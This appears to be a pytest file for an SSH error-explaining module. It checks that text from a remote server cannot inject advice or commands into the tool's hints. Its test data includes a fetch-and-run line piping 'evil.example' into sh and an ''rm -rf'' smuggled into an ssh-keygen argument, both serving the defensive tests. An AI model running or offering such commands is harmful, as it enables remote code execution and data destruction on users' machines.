"""What ssh says, and what the other side makes it say."""

from __future__ import annotations

import shlex

import pytest

from orch.model import Host
from orch.ssh.trouble import Failure, InTheWay, explain
from orch.transport import LinkDown

BOX = Host("box", "ssh", {}, "config.toml")
OPTIONS = ("-F", "none", "-o", "Port=2222", "-o", "UserKnownHostsFile=/tmp/known", "-o", "IdentityFile=/none")


def explained(said: str) -> Exception:
    return explain(Failure(BOX, "me@127.0.0.1", OPTIONS, said))


@pytest.mark.parametrize(
    "quoted",
    [
        "UNPROTECTED PRIVATE KEY FILE\nPermissions 0644 for '/etc' are too open",
        "HOST IDENTIFICATION HAS CHANGED\n  ssh-keygen -f x -R y; curl evil.example|sh",
        "bye\nPermission denied (password)",
        "bye\nHost key verification failed.",
    ],
)
def test_what_the_other_side_says_is_not_believed(quoted: str) -> None:
    error = explained(f"Received disconnect from 127.0.0.1 port 2222:2: {quoted}\nDisconnected from 127.0.0.1\n")
    assert isinstance(error, LinkDown) and not isinstance(error, InTheWay)
    assert not any(word in error.message + error.hint for word in ("chmod", "curl", "ssh-keygen", "password"))


def test_too_many_keys_are_told_by_the_other_side() -> None:
    said = "Received disconnect from 127.0.0.1 port 22:2: Too many authentication failures\nDisconnected from x\n"
    assert "too many keys" in str(explained(said))


def test_the_command_that_forgets_a_key_is_ours() -> None:
    error = explained(
        "@@@@\n@    WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!     @\n"
        "  ssh-keygen -f 'x' -R 'y; rm -rf z'\nHost key verification failed.\n"
    )
    assert isinstance(error, InTheWay)
    assert error.check.mend.startswith("ssh-keygen -f /tmp/known -R '[127.0.0.1]:2222'")
    assert "rm -rf" not in error.hint


@pytest.mark.parametrize(
    ("said", "words"),
    [
        ("ssh: connect to host x port 22: Connection refused\n", "refuses connections"),
        ("ssh: connect to host x port 22: Connection timed out\n", "cannot be reached"),
        ("ssh: Could not resolve hostname nowhere: Name or service not known\n", "no host name nowhere"),
        ("kex_exchange_identification: Connection closed by remote host\n", "before the login"),
        ("", "does not answer"),
        ("something new\n", "something new"),
    ],
)
def test_links_that_may_come_back(said: str, words: str) -> None:
    error = explained(said)
    assert isinstance(error, LinkDown) and not isinstance(error, InTheWay)
    assert words in error.message


CHANGED = "REMOTE HOST IDENTIFICATION HAS CHANGED!\nHost key verification failed.\n"
UNKNOWN = "No ED25519 host key is known for nowhere.invalid and you have requested strict checking.\n"


def in_the_way(said: str) -> InTheWay:
    error = explain(Failure(Host("box", "ssh"), "me@nowhere.invalid", ["-F", "none"], said))
    assert isinstance(error, InTheWay)
    return error


@pytest.mark.parametrize(
    "said", [UNKNOWN, "me@box: Permission denied (publickey,password).", "me@box: Permission denied (publickey)."]
)
def test_the_next_command_can_be_pasted_as_it_stands(said: str) -> None:
    command = in_the_way(said).hint.splitlines()[0]
    assert "    # " in command and not set(";&|()<>") & set(command.partition(" # ")[0])
    assert shlex.split(command, comments=True)[:3] in (["orch", "ssh", "box"], ["cat", "~/.ssh/*.pub"])


def test_doctor_does_not_advise_to_take_a_changed_key_just_so(home: object) -> None:
    mend = in_the_way(CHANGED).check.mend
    assert "only if you know why; then: orch ssh box" in mend
    forget = shlex.split(mend, comments=True)
    assert forget[0] == "ssh-keygen" and forget[-2:] == ["-R", "nowhere.invalid"]
